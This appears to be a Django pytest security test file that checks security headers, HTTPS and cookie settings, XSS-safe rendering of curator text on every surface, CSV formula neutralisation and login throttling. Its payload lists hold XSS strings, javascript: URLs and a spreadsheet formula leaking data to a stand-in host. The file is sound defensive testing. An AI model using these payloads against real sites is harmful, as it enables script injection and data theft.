"""Security: response headers, production transport settings, curator-entered text made inert
on every surface, and the curators' login throttled. The threat model is docs/security.md;
the browser half (the CSP actually blocking inline script) is browser/test_security_browser.py.
"""

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import timedelta
from html.parser import HTMLParser

import feedparser
import pytest
from axes.models import AccessAttempt
from axes.utils import reset as reset_axes
from django.conf import settings
from django.db.models import F
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone

from events import review
from events.exports import FORMULA_PREFIXES
from events.models import Actor, Category, Citation, Event, SourceArticle, Statement

from .factories import PublishedEventFactory
from .helpers import PRODUCTION, inline_management, run_manage

pytestmark = pytest.mark.django_db


# Reading HTML as a browser would ------------------------------------------------------------


class Markup(HTMLParser):
    """The elements, attributes, text and script contents a browser would see in a page."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []  # (tag, {attribute: value})
        self.text = []
        self.scripts = []  # ({attribute: value}, content)
        self._script = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        if tag == "script":
            self._script = (attributes, [])

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            attributes, parts = self._script
            self.scripts.append((attributes, "".join(parts)))
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)
        else:
            self.text.append(data)

    @property
    def all_text(self):
        return "".join(self.text)

    def attribute_values(self):
        return [value for _, attributes in self.elements for value in attributes.values()]


DATA_BLOCK_TYPES = {"application/ld+json", "application/json"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data"}
# Elements only an injection could have put there (the site and the admin use none of them).
INJECTED_ELEMENTS = {"x", "iframe", "object", "embed", "style", "base", "frame"}


def assert_inert(html, where):
    """Nothing in the page can run script: every script is a static file or a JSON data block,
    no element carries an event handler or a javascript: URL, no injected element exists."""
    markup = Markup(html)
    for attributes, content in markup.scripts:
        if "src" in attributes:
            assert not content.strip(), f"{where}: a script with a src has inline content"
            assert attributes["src"].startswith(("/", "http://testserver/")), where
        else:
            assert attributes.get("type") in DATA_BLOCK_TYPES, f"{where}: script {content!r}"
            json.loads(content)  # a data block that is not pure JSON was broken out of
    for tag, attributes in markup.elements:
        assert tag not in INJECTED_ELEMENTS, f"{where}: injected <{tag} {attributes}>"
        for name, value in attributes.items():
            assert not name.startswith("on"), f"{where}: event handler <{tag} {name}={value!r}>"
            assert not name.startswith("hx-on"), f"{where}: htmx handler <{tag} {name}>"
            if name in URL_ATTRIBUTES:
                scheme = "".join(value.split()).lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:text")), (
                    f"{where}: <{tag} {name}={value!r}>"
                )
        if tag == "img":
            assert attributes.get("src", "").startswith(("/", "data:")), f"{where}: {attributes}"
    return markup


# 1. Security headers --------------------------------------------------------------------------


def csp_directives(response):
    policy = response["Content-Security-Policy"]
    directives = {}
    for part in policy.split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


@pytest.fixture
def published_event():
    return PublishedEventFactory(slug="published", title="Published event")


PUBLIC_PAGES = ["/", "/events/published/", "/about/", "/no-such-page/", "/events/no-such-event/"]
OTHER_RESPONSES = [
    "/api/v1/events",
    "/api/v1/events/published",
    "/api/v1/no-such-endpoint",
    "/api/v1/exports/events.csv",
    "/feed/",
    "/api/v1/docs",
    "ADMIN_LOGIN",
]


@pytest.mark.parametrize("url", PUBLIC_PAGES + OTHER_RESPONSES)
def test_every_response_carries_the_security_headers(client, published_event, url):
    if url == "ADMIN_LOGIN":
        url = reverse("admin:login")
    response = client.get(url)
    assert response.status_code in {200, 404}

    csp = csp_directives(response)
    assert csp["script-src"] == ["'self'"]  # no 'unsafe-inline', no 'unsafe-eval', no host
    assert csp["default-src"] == ["'self'"]
    assert csp["object-src"] == ["'none'"]
    assert csp["base-uri"] == ["'none'"]
    assert csp["frame-ancestors"] == ["'none'"]
    assert csp["form-action"] == ["'self'"]
    assert "'unsafe-eval'" not in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert response["X-Frame-Options"] == "DENY"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
    assert response["Permissions-Policy"] == "camera=(), microphone=(), geolocation=()"
    # No inline style either, not even on the admin and the API docs (see events/middleware.py).
    assert csp["style-src"] == ["'self'"]


def test_the_admin_url_is_where_settings_put_it():
    assert reverse("admin:login") == f"/{settings.ADMIN_URL}login/"


def test_a_locked_out_login_still_carries_the_headers(login, curator):
    for attempt in range(settings.AXES_FAILURE_LIMIT + 1):
        response = login("curator", f"wrong guess {attempt}")
    assert response.status_code == 429
    assert csp_directives(response)["script-src"] == ["'self'"]
    assert response["X-Frame-Options"] == "DENY"


def test_https_responses_carry_hsts(client, published_event):
    response = client.get("/", secure=True)
    assert response["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains; preload"


@override_settings(SECURE_SSL_REDIRECT=True)
def test_plain_http_is_redirected_to_https_in_production():
    response = Client().get("/about/?x=1")  # a client built under the production setting
    assert response.status_code == 301
    assert response["Location"] == "https://testserver/about/?x=1"


def test_cookies_are_secure_httponly_and_same_site(client, curator):
    login_url = reverse("admin:login")
    page = client.get(login_url, secure=True)
    csrf = page.cookies["csrftoken"]
    assert csrf["secure"] and csrf["samesite"] == "Lax"

    response = client.post(
        login_url,
        {"username": "curator", "password": "a long curator passphrase", "next": "/"},
        secure=True,
    )
    assert response.status_code == 302
    session = response.cookies[settings.SESSION_COOKIE_NAME]
    assert session["secure"] and session["httponly"] and session["samesite"] == "Lax"


def test_production_settings_turn_every_transport_protection_on():
    """timeline.settings as production reads it (no DJANGO_DEBUG), in a fresh interpreter."""
    names = [
        "DEBUG", "SECURE_SSL_REDIRECT", "SECURE_HSTS_SECONDS", "SECURE_HSTS_INCLUDE_SUBDOMAINS",
        "SECURE_HSTS_PRELOAD", "SESSION_COOKIE_SECURE", "CSRF_COOKIE_SECURE",
        "SESSION_COOKIE_HTTPONLY", "SECURE_CONTENT_TYPE_NOSNIFF", "SECURE_REFERRER_POLICY",
        "X_FRAME_OPTIONS", "ADMIN_URL", "AXES_FAILURE_LIMIT", "AXES_LOCKOUT_PARAMETERS",
        "SESSION_COOKIE_AGE",
    ]
    code = (
        "import json, timeline.settings as s; "
        f"print(json.dumps({{n: getattr(s, n) for n in {names!r}}}))"
    )
    result = run_manage("shell", "-c", code,
                        env_overrides={**PRODUCTION, "DJANGO_ADMIN_URL": "/curators-7f3a/"})
    assert result.returncode == 0, result.stderr
    values = json.loads(result.stdout.strip().splitlines()[-1])
    assert values == {
        "DEBUG": False,
        "SECURE_SSL_REDIRECT": True,
        "SECURE_HSTS_SECONDS": 31_536_000,
        "SECURE_HSTS_INCLUDE_SUBDOMAINS": True,
        "SECURE_HSTS_PRELOAD": True,
        "SESSION_COOKIE_SECURE": True,
        "CSRF_COOKIE_SECURE": True,
        "SESSION_COOKIE_HTTPONLY": True,
        "SECURE_CONTENT_TYPE_NOSNIFF": True,
        "SECURE_REFERRER_POLICY": "strict-origin-when-cross-origin",
        "X_FRAME_OPTIONS": "DENY",
        "ADMIN_URL": "curators-7f3a/",
        "AXES_FAILURE_LIMIT": 5,
        "AXES_LOCKOUT_PARAMETERS": [["username", "ip_address"]],
        "SESSION_COOKIE_AGE": 10 * 3600,  # a working day
    }


# 3. Curator-entered text is inert everywhere --------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "javascript:alert(1)",
    "<svg onload=alert(1)>",
    "{{ 7*7 }} {% debug %}",
    "' onmouseover='alert(1)",
    "]]><x>",
    '=HYPERLINK("http://evil.example/?leak="&A1)',
    '<a href="javascript:alert(1)">click</a>',
    "--><!--<style>*{display:none}</style>",
    "<iframe src=javascript:alert(1)></iframe>",
]
# Every free-text field a curator fills in the admin, each marked so a check knows which one.
FIELDS = [
    "category_name", "category_description",
    "actor_name", "actor_aliases", "actor_description", "protected_name", "outlet_name",
    "source_title", "source_author", "source_notes",
    "event_title", "event_summary", "event_location", "event_note",
    "excerpt", "summary_excerpt", "citation_note", "role",
    "quote", "venue",
]
# Valid http(s) URLs (the validator accepts them) that would break out of an unescaped href.
SOURCE_URL = 'https://news.example.org/a?q="><svg/onload=alert(1)>'
ACTOR_URL = "https://example.org/?x=</script><script>alert(1)</script>"


def admin_add(client, model, data):
    response = client.post(reverse(f"admin:events_{model}_add"), data)
    errors = response.context.get("errors") if response.context else None
    assert response.status_code == 302, f"{model}: {errors}"


@pytest.fixture(params=PAYLOADS, ids=lambda payload: payload[:24])
def payload(request):
    return request.param


@pytest.fixture
def entered(curator_client, curator, editor, payload):
    """The whole record entered as a curator through the admin, every text field a payload,
    then published by an editor (docs/review.md)."""
    text = {field: f"{payload} #{field}" for field in FIELDS}
    client = curator_client
    admin_add(client, "category", {
        "name": text["category_name"], "slug": "xss-category",
        "description": text["category_description"],
    })
    admin_add(client, "actor", {
        "name": text["actor_name"], "slug": "xss-actor", "kind": "person",
        "aliases": text["actor_aliases"], "description": text["actor_description"],
        "url": ACTOR_URL,
    })
    admin_add(client, "actor", {
        "name": text["protected_name"], "slug": "protected_name", "kind": "person",
        "protected_identity": "on", "naming": "pseudonym",
    })
    admin_add(client, "actor", {"name": text["outlet_name"], "slug": "xss-outlet",
                                "kind": "media"})
    outlet, actor, survivor = (
        Actor.objects.get(slug=slug) for slug in ("xss-outlet", "xss-actor", "protected_name")
    )
    admin_add(client, "sourcearticle", {
        "title": text["source_title"], "slug": "xss-source", "publisher": outlet.pk,
        "url": SOURCE_URL, "published": "2017-04-01", "author": text["source_author"],
        "language": "en", "notes": text["source_notes"], "source_type": "original",
        **inline_management("archived_text", 0),
    })
    source = SourceArticle.objects.get(slug="xss-source")
    admin_add(client, "event", {
        # The title is the bare payload: a spreadsheet formula must start its CSV cell.
        "title": payload, "slug": "xss-event", "start": "1 April 2017", "end": "",
        "category": Category.objects.get(slug="xss-category").pk,
        "location": text["event_location"], "summary": text["event_summary"],
        "status": "published", "verification": "disputed",
        "verification_note": text["event_note"],
        **inline_management("citations", 2),
        "citations-0-source": source.pk,
        "citations-0-excerpt": text["excerpt"],
        "citations-0-note": text["citation_note"],
        "citations-1-source": source.pk,
        "citations-1-excerpt": text["summary_excerpt"],
        "citations-1-is_summary": "on",
        **inline_management("participations", 2),
        "participations-0-actor": actor.pk,
        "participations-0-role": text["role"],
        "participations-1-actor": survivor.pk,
        "participations-1-role": "survivor",
        **inline_management("event_places", 0),
        **inline_management("statements", 1),
        "statements-0-kind": "quote",
        "statements-0-quote": text["quote"],
        "statements-0-speaker": actor.pk,
        "statements-0-said_on": "2017-04-01",
        "statements-0-venue": text["venue"],
        "statements-0-status": "published",
        "statements-0-cite_source": source.pk,
        "statements-0-cite_excerpt": f"He said: {text['quote']}",
    })
    text["event_title"] = payload
    event = Event.objects.get(slug="xss-event")
    review.approve(review.submit_new(event, curator), editor)
    event.refresh_from_db()
    assert event.title == payload and event.is_published  # stored as typed, not "cleaned"
    return {"payload": payload, "text": text, "event": event}


def _values(text, *fields):
    return [text[field] for field in fields]


# Which fields each public page shows, as text a reader reads.
PAGE_FIELDS = {
    "/": ["event_title", "event_summary", "event_location", "category_name", "actor_name",
          "role", "protected_name", "quote", "venue", "source_title", "outlet_name"],
    "/events/xss-event/": [
        "event_title", "event_summary", "event_location", "event_note", "category_name",
        "actor_name", "role", "protected_name", "quote", "venue", "source_title",
        "outlet_name", "excerpt", "summary_excerpt", "citation_note",
    ],
    "/actors/xss-actor/": ["actor_name", "actor_aliases", "actor_description", "quote", "venue",
                           "event_title", "source_title"],
    "/actors/protected_name/": ["protected_name", "event_title"],
    "/actors/xss-outlet/": ["outlet_name"],
    "/sources/xss-source/": ["source_title", "source_author", "source_notes", "outlet_name",
                             "event_title"],
    "/categories/xss-category/": ["category_name", "category_description", "event_title"],
    "/about/": [],
}


@pytest.mark.parametrize("url", PAGE_FIELDS)
def test_public_pages_show_curator_text_as_text(client, entered, url):
    response = client.get(url)
    assert response.status_code == 200
    markup = assert_inert(response.content.decode(), url)
    for value in _values(entered["text"], *PAGE_FIELDS[url]):
        assert value in markup.all_text, f"{url}: {value!r} is not shown as text"


def test_the_htmx_fragment_is_inert(client, entered):
    response = client.get("/?category=xss-category", headers={"HX-Request": "true"})
    markup = assert_inert(response.content.decode(), "fragment")
    assert entered["payload"] in markup.all_text


def test_urls_stay_inside_their_attributes(client, entered):
    source_page = Markup(client.get("/sources/xss-source/").content.decode())
    assert ("a", SOURCE_URL) in [(tag, a.get("href")) for tag, a in source_page.elements]
    actor_page = Markup(client.get("/actors/xss-actor/").content.decode())
    assert ("a", ACTOR_URL) in [(tag, a.get("href")) for tag, a in actor_page.elements]


def test_json_ld_cannot_close_its_script_element_and_says_exactly_what_was_typed(
    client, entered
):
    html = client.get("/events/xss-event/").content.decode()
    start = html.index('<script type="application/ld+json">')
    raw = html[start:].split(">", 1)[1].split("</script>", 1)[0]
    assert "<" not in raw and ">" not in raw  # no </script, <!--, nor anything else
    data = json.loads(raw)
    text = entered["text"]
    assert data["name"] == entered["payload"]
    assert data["description"] == text["event_summary"]
    assert data["location"]["name"] == text["event_location"]
    assert data["about"] == text["category_name"]
    article = data["recordedIn"][0]
    assert article["headline"] == text["source_title"]
    assert article["author"]["name"] == text["source_author"]
    assert article["publisher"]["name"] == text["outlet_name"]
    assert article["url"] == SOURCE_URL
    quotation = data["subjectOf"][0]
    assert (quotation["text"], quotation["creator"]["name"]) == (text["quote"], text["actor_name"])
    assert {actor["name"] for actor in data["actor"]} == {text["actor_name"],
                                                          text["protected_name"]}
    # The parser a search engine would use sees the same single data block.
    scripts = Markup(html).scripts
    assert [json.loads(content) for attrs, content in scripts if "src" not in attrs] == [data]


def test_api_serves_exactly_what_was_typed(client, entered):
    text = entered["text"]
    listing = client.get("/api/v1/events").json()
    assert [item["title"] for item in listing["items"]] == [entered["payload"]]

    event = client.get("/api/v1/events/xss-event").json()
    assert (event["title"], event["summary"], event["location"], event["verification_note"]) == (
        entered["payload"], *_values(text, "event_summary", "event_location", "event_note")
    )
    assert event["category"]["name"] == text["category_name"]
    assert [(p["actor"]["name"], p["role"]) for p in event["actors"]] == [
        (text["actor_name"], text["role"]), (text["protected_name"], "survivor")
    ]
    assert [(c["excerpt"], c["note"]) for c in event["citations"]] == [
        (text["excerpt"], text["citation_note"]), (text["summary_excerpt"], "")
    ]
    source = event["citations"][0]["source"]
    assert (source["title"], source["author"], source["publisher"]["name"]) == tuple(
        _values(text, "source_title", "source_author", "outlet_name")
    )
    statement = event["statements"][0]
    assert (statement["quote"], statement["venue"]) == (text["quote"], text["venue"])

    actor = client.get("/api/v1/actors/xss-actor").json()
    assert (actor["name"], actor["aliases"], actor["description"], actor["website"]) == (
        text["actor_name"], [text["actor_aliases"]], text["actor_description"], ACTOR_URL
    )
    source = client.get("/api/v1/sources/xss-source").json()
    assert (source["notes"], source["article_url"]) == (text["source_notes"], SOURCE_URL)
    category = client.get("/api/v1/categories/xss-category").json()
    assert category["description"] == text["category_description"]


def test_timelinejs_export_escapes_what_timelinejs_renders_as_html(client, entered):
    data = client.get("/api/v1/exports/timelinejs").json()
    (slide,) = data["events"]
    text = entered["text"]
    # TimelineJS puts headline, text, group and display_date into the page as HTML.
    for field, html, expected in [
        ("headline", slide["text"]["headline"], entered["payload"]),
        ("text", slide["text"]["text"], text["event_summary"]),
        ("group", slide["group"], text["category_name"]),
        ("display_date", slide["display_date"], "1 April 2017"),
    ]:
        markup = assert_inert(html, f"timelinejs {field}")
        assert expected in markup.all_text, field
    links = Markup(slide["text"]["text"]).elements
    assert ("a", SOURCE_URL) in [(tag, attrs.get("href")) for tag, attrs in links]
    assert_inert(data["title"]["text"]["text"], "timelinejs title")


def test_csv_export_neutralises_formulas(client, entered):
    response = client.get("/api/v1/exports/events.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    (row,) = rows
    payload, text = entered["payload"], entered["text"]
    for column, value in row.items():
        assert not value.startswith(FORMULA_PREFIXES), f"{column} is a formula: {value!r}"
    def as_text(value):  # what a spreadsheet must be given: the text, never a formula
        return "'" + value if value.startswith(FORMULA_PREFIXES) else value

    assert row["title"] == as_text(payload)
    assert row["category"] == as_text(text["category_name"])
    assert row["location"] == as_text(text["event_location"])
    assert row["summary"] == as_text(text["event_summary"])
    assert row["verification_note"] == as_text(text["event_note"])
    assert row["actors"] == as_text(
        f"{text['actor_name']} ({text['role']}); {text['protected_name']} (pseudonym) (survivor)"
    )


def test_atom_feed_is_well_formed_and_its_html_inert(client, entered):
    response = client.get("/feed/")
    content = response.content
    for tag in (b"<script", b"<svg", b"<img", b"<x>", b"<iframe", b"<style", b"<a "):
        assert tag not in content.lower(), tag  # all HTML travels escaped inside the XML

    atom = "{http://www.w3.org/2005/Atom}"
    (entry,) = ET.fromstring(content).iter(f"{atom}entry")  # noqa: S314 (our own output)
    # The entered event is disputed, and its entry says so.
    assert entry.find(f"{atom}title").text == f"1 April 2017: {entered['payload']} (disputed)"
    summary = entry.find(f"{atom}summary")
    assert summary.get("type") == "html"
    markup = assert_inert(summary.text, "feed summary")
    assert entered["text"]["event_summary"] in markup.all_text
    assert entered["text"]["source_title"] in markup.all_text
    assert [c.get("term") for c in entry.iter(f"{atom}category")] == [
        entered["text"]["category_name"], "Disputed"
    ]

    parsed = feedparser.parse(content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.entries[0].title == f"1 April 2017: {entered['payload']} (disputed)"


def _admin_pages(entered):
    event = entered["event"]
    statement = Statement.objects.get(event=event)
    pages = [reverse("admin:index"), reverse("admin:events_event_history", args=[event.pk])]
    for model, objects in [
        ("event", [event]),
        ("statement", [statement]),
        ("citation", Citation.objects.all()),
        ("sourcearticle", SourceArticle.objects.all()),
        ("actor", Actor.objects.all()),
        ("category", Category.objects.all()),
    ]:
        pages.append(reverse(f"admin:events_{model}_changelist"))
        pages += [reverse(f"admin:events_{model}_change", args=[obj.pk]) for obj in objects]
    return pages


def test_admin_pages_are_inert(curator_client, entered):
    for url in _admin_pages(entered):
        response = curator_client.get(url)
        assert response.status_code == 200, url
        markup = assert_inert(response.content.decode(), url)
        shown = markup.all_text + "".join(markup.attribute_values())
        assert entered["payload"][:20] in shown, url


def test_admin_search_and_autocomplete_are_inert(curator_client, entered):
    url = reverse("admin:events_event_changelist")
    response = curator_client.get(url, {"q": entered["payload"]})
    markup = assert_inert(response.content.decode(), "admin search")
    assert entered["payload"] in markup.attribute_values()  # the search box, escaped

    response = curator_client.get(reverse("admin:autocomplete"), {
        "app_label": "events", "model_name": "eventactor", "field_name": "actor",
        "term": "#actor_name",
    })
    assert response["Content-Type"] == "application/json"
    assert [r["text"] for r in response.json()["results"]] == [entered["text"]["actor_name"]]


def test_a_form_with_errors_redisplays_the_payload_inert(curator_client, payload):
    response = curator_client.post(reverse("admin:events_category_add"), {
        "name": payload, "slug": "not a slug!", "description": payload,
    })
    assert response.status_code == 200
    markup = assert_inert(response.content.decode(), "form with errors")
    assert payload in markup.all_text  # the description textarea
    assert payload in markup.attribute_values()  # the name input


@pytest.mark.parametrize("model", ["sourcearticle", "actor"])
@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]
)
def test_non_http_urls_are_refused(curator_client, model, url):
    data = {"title": "Bad", "name": "Bad", "slug": "bad", "language": "en", "kind": "person",
            "url": url}
    response = curator_client.post(reverse(f"admin:events_{model}_add"), data)
    assert response.status_code == 200
    assert "Enter a web address starting with http:// or https://" in response.content.decode()
    assert not SourceArticle.objects.exists() and not Actor.objects.exists()


@pytest.mark.parametrize("payload", PAYLOADS[:6], ids=lambda payload: payload[:24])
def test_reflected_query_parameters_are_inert(client, published_event, payload):
    for url in ["/", "/events/published/", "/sources/no/", "/categories/x/"]:
        response = client.get(url, {"q": payload, "actor": payload, "date_from": payload,
                                    "category": payload, "page": payload})
        assert response.status_code in {200, 400, 404}, url
        assert_inert(response.content.decode(), url)
    feed = client.get("/feed/", {"date_from": payload})
    assert feed.status_code == 400
    assert feed["Content-Type"].startswith("text/plain")
    api = client.get("/api/v1/events", {"date_from": payload, "q": payload})
    assert api.status_code == 422
    assert api["Content-Type"].startswith("application/json")


# 4. Brute-force logins are throttled ---------------------------------------------------------


@pytest.fixture
def login(client):
    """Posts the admin login form as a browser at `address` would; resets django-axes first
    and after, so no lockout leaks into another test."""
    reset_axes()

    def post(username, password, address="203.0.113.7"):
        return client.post(
            reverse("admin:login"),
            {"username": username, "password": password, "next": reverse("admin:index")},
            REMOTE_ADDR=address,
        )

    yield post
    reset_axes()


def logged_in(response):
    return response.status_code == 302 and response["Location"] == reverse("admin:index")


def test_repeated_failures_lock_the_username_at_that_address(login, curator):
    limit = settings.AXES_FAILURE_LIMIT
    assert limit == 5
    for attempt in range(1, limit):
        response = login("curator", f"wrong guess {attempt}")
        assert response.status_code == 200, attempt  # the login form, with its error
        assert "Please enter the correct username and password" in response.content.decode()
    assert login("curator", "wrong guess 5").status_code == 429

    sixth = login("curator", "a long curator passphrase")  # even the right password
    assert sixth.status_code == 429
    assert "too many login attempts" in sixth.content.decode()
    assert "_auth_user_id" not in sixth.wsgi_request.session


def test_the_lockout_touches_no_other_username_or_address(login, curator, django_user_model):
    django_user_model.objects.create_user("editor", password="another long passphrase",
                                          is_staff=True, is_superuser=True)
    for attempt in range(settings.AXES_FAILURE_LIMIT):
        login("curator", f"wrong guess {attempt}")
    assert login("curator", "a long curator passphrase").status_code == 429
    assert logged_in(login("editor", "another long passphrase"))
    assert logged_in(login("curator", "a long curator passphrase", address="198.51.100.4"))


def test_the_lockout_lifts_after_the_cool_off(login, curator):
    for attempt in range(settings.AXES_FAILURE_LIMIT):
        login("curator", f"wrong guess {attempt}")
    assert login("curator", "a long curator passphrase").status_code == 429

    # Fourteen minutes after the last failure: still locked, and the try restarts the clock
    # (AXES_RESET_COOL_OFF_ON_FAILURE_DURING_LOCKOUT): fourteen minutes later, still locked.
    AccessAttempt.objects.update(attempt_time=timezone.now() - timedelta(minutes=14))
    assert login("curator", "a long curator passphrase").status_code == 429
    AccessAttempt.objects.update(attempt_time=F("attempt_time") - timedelta(minutes=2))
    assert login("curator", "a long curator passphrase").status_code == 429
    # Past the fifteen minutes of DJANGO_LOGIN_COOLOFF_MINUTES: the right password works again.
    AccessAttempt.objects.update(attempt_time=timezone.now() - timedelta(minutes=16))
    assert logged_in(login("curator", "a long curator passphrase"))


def test_an_administrator_can_lift_a_lockout(login, curator):
    for attempt in range(settings.AXES_FAILURE_LIMIT):
        login("curator", f"wrong guess {attempt}")
    assert login("curator", "a long curator passphrase").status_code == 429
    reset_axes(username="curator")  # what `manage.py axes_reset_username curator` does
    assert logged_in(login("curator", "a long curator passphrase"))


def test_a_success_clears_earlier_failures(login, curator):
    for attempt in range(settings.AXES_FAILURE_LIMIT - 1):
        login("curator", f"wrong guess {attempt}")
    assert logged_in(login("curator", "a long curator passphrase"))
    login("curator", "one more typo")
    assert logged_in(login("curator", "a long curator passphrase"))


def test_responses_are_gzipped_with_a_random_name_against_breach(client, curator_client):
    import gzip

    from .factories import PublishedEventFactory

    PublishedEventFactory.create_batch(3)
    plain = client.get("/api/v1/events")
    lengths = set()
    for _ in range(6):
        response = client.get("/api/v1/events", headers={"Accept-Encoding": "gzip"})
        assert response["Content-Encoding"] == "gzip"
        assert "Accept-Encoding" in response["Vary"]
        assert gzip.decompress(response.content) == plain.content
        assert int(response["Content-Length"]) == len(response.content)
        lengths.add(len(response.content))
    assert len(lengths) > 1  # the same body does not compress to one predictable length
    from django.urls import reverse

    admin = curator_client.get(reverse("admin:events_event_add"),
                               headers={"Accept-Encoding": "gzip"})
    assert admin["Content-Encoding"] == "gzip"
    assert b"csrfmiddlewaretoken" in gzip.decompress(admin.content)
